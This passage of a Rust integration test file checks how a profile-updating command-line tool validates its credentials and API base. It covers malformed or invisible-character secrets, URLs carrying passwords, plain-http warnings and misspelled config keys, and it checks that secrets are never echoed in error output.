    support::env_credentials(&mut cmd, &api);
    cmd.env(
        "TWPROFILE_CONSUMER_SECRET",
        std::ffi::OsStr::from_bytes(b"cs-\xff\xfe"),
    )
    .args(["--name", "x"]);
    let out = output_within(&mut cmd, 30);
    assert_exit(&out, 3);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains("TWPROFILE_CONSUMER_SECRET is not valid UTF-8"),
        "{stderr}"
    );
    assert!(api.requests().is_empty());

    // An invisible character at either end is as wrong as a newline.
    let mut cmd = sandbox.std_cmd();
    support::env_credentials(&mut cmd, &api);
    cmd.env("TWPROFILE_CONSUMER_KEY", format!("\u{feff}{CONSUMER_KEY}"))
        .args(["--name", "x"]);
    let out = output_within(&mut cmd, 30);
    assert_exit(&out, 3);
    assert!(
        texts(&out)
            .1
            .contains("TWPROFILE_CONSUMER_KEY contains an invisible character")
    );
    assert!(api.requests().is_empty());

    sandbox.write_config(&support::alice_config(&api.base()).replace(
        &format!("access_token = \"{ACCESS_TOKEN}\""),
        &format!("access_token = \" {ACCESS_TOKEN}\""),
    ));
    let out = sandbox.run(&["--name", "x"]);
    assert_exit(&out, 3);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains("access_token of account 'alice'"),
        "{stderr}"
    );
    assert_no_secrets(&out, &api);
    assert!(api.requests().is_empty());
}

#[test]
fn an_api_base_with_a_password_is_refused_without_showing_it() {
    let (api, sandbox) = setup();
    let port = api.base().rsplit(':').next().expect("port").to_owned();
    for base in [
        format!("http://:hunter2pw@127.0.0.1:{port}"),
        format!("http://u:hunter2pw@127.0.0.1:{port}"),
        format!("http://hunter2pw@127.0.0.1:{port}"),
    ] {
        for args in [&["--name", "x"][..], &["--dry-run", "-v", "--name", "x"]] {
            let out = sandbox
                .cmd()
                .env("TWPROFILE_API_BASE", &base)
                .args(args)
                .output()
                .expect("run");
            assert_exit(&out, 3);
            let (stdout, stderr) = texts(&out);
            assert!(
                stderr.contains("carries a user name or password"),
                "{stderr}"
            );
            assert!(
                !stdout.contains("hunter2pw") && !stderr.contains("hunter2pw"),
                "{stderr}"
            );
        }
    }
    assert!(api.requests().is_empty());
}

#[test]
fn plain_http_to_another_machine_is_warned_about_and_login_refuses_it() {
    let (_api, sandbox) = setup();
    let out = sandbox
        .cmd()
        .env("TWPROFILE_API_BASE", "http://api.example.com")
        .args(["--dry-run", "--name", "x"])
        .output()
        .expect("run");
    assert_exit(&out, 0);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains("warning: API base http://api.example.com is plain http://"),
        "{stderr}"
    );

    // A name under .localhost may be looked up in DNS: it is not taken for this machine.
    let out = sandbox
        .cmd()
        .env("TWPROFILE_API_BASE", "http://api.localhost:9")
        .args(["--dry-run", "--name", "x"])
        .output()
        .expect("run");
    assert!(
        texts(&out)
            .1
            .contains("warning: API base http://api.localhost:9 is plain")
    );

    let out = sandbox
        .cmd()
        .env("TWPROFILE_API_BASE", "http://localhost.:9")
        .args(["--dry-run", "--name", "x"])
        .output()
        .expect("run");
    assert!(
        texts(&out).1.contains("is plain http://"),
        "localhost. goes to DNS"
    );

    for base in ["http://localhost:9", "http://127.0.0.2:9", "http://[::1]:9"] {
        let out = sandbox
            .cmd()
            .env("TWPROFILE_API_BASE", base)
            .args(["--dry-run", "--name", "x"])
            .output()
            .expect("run");
        assert_exit(&out, 0);
        assert!(!texts(&out).1.contains("warning"), "{base}");
    }

    let out = login(
        &sandbox,
        "http://api.example.com",
        &[
            "--config",
            sandbox.home().join("new.toml").to_str().expect("utf-8"),
        ],
    );
    assert_exit(&out, 3);
    let (_, stderr) = texts(&out);
    assert!(stderr.contains("refusing to log in"), "{stderr}");
    assert!(!sandbox.home().join("new.toml").exists());
}

#[test]
fn an_unknown_config_key_is_named_with_the_closest_known_one() {
    let (api, sandbox) = setup();
    let text = support::alice_config(&api.base())
        .replace("api_base =", "api_bas = \"https://api.x.com\"\napi_base =");
    sandbox.write_config(&text.replace(
        "consumer_secret =",
        "consumer_secert = \"x\"\nXq9Secretish0Value = \"y\"\nconsumer_secret =",
    ));
    let out = sandbox.run(&["--name", "x"]);
    assert_exit(&out, 0);
    let (_, stderr) = texts(&out);
    assert!(
        stderr.contains("warning: unknown key 'api_bas' at the top level in ")
            && stderr.contains("did you mean 'api_base'?"),
        "{stderr}"
    );
    assert!(
        stderr.contains("unknown key 'consumer_secert' in [accounts.alice]")
            && stderr.contains("did you mean 'consumer_secret'?"),
        "{stderr}"
    );
    // A key that looks like a pasted secret is not quoted.
    assert!(!stderr.contains("Xq9Secretish0Value"), "{stderr}");
    assert!(
        stderr.contains("unknown key (not shown: it may be a secret) in [accounts.alice]"),
        "{stderr}"
    );
}
